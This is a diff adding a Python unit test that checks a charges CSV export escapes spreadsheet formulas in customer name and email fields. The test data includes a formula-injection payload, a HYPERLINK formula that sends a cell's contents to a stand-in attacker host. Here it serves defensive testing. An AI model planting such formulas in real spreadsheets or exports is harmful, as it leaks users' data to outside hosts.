@@ -255,6 +255,17 @@ def test_csv_has_exactly_the_filtered_rows_with_decimal_amounts(frame):
     assert parsed[-1]["created_utc"] == "2026-11-16T09:00:00Z"
 
 
+def test_charges_csv_writes_a_customer_formula_as_text(frame):
+    hostile = charge_object(
+        "ch_x1", ts(15, 14), 2300, email="=1+1@example.com", name='=HYPERLINK("http://evil.example/?"&B2,"Open")'
+    )
+    rows = analytics.prepare_charges(pd.DataFrame([sync.charge_row(hostile)]))
+    [row] = csv.DictReader(io.StringIO(analytics.charges_csv(rows).decode()))
+    assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?"&B2,"Open")'
+    assert row["receipt_email"] == "'=1+1@example.com"
+    assert row["amount"] == "23.00"
+
+
 def test_find_charges_by_id_order_number_or_email(frame):
     assert list(analytics.find_charges(frame, "ch_c")["id"]) == ["ch_c"]
     assert list(analytics.find_charges(frame, "sp-dddd0001")["id"]) == ["ch_e", "ch_d"]
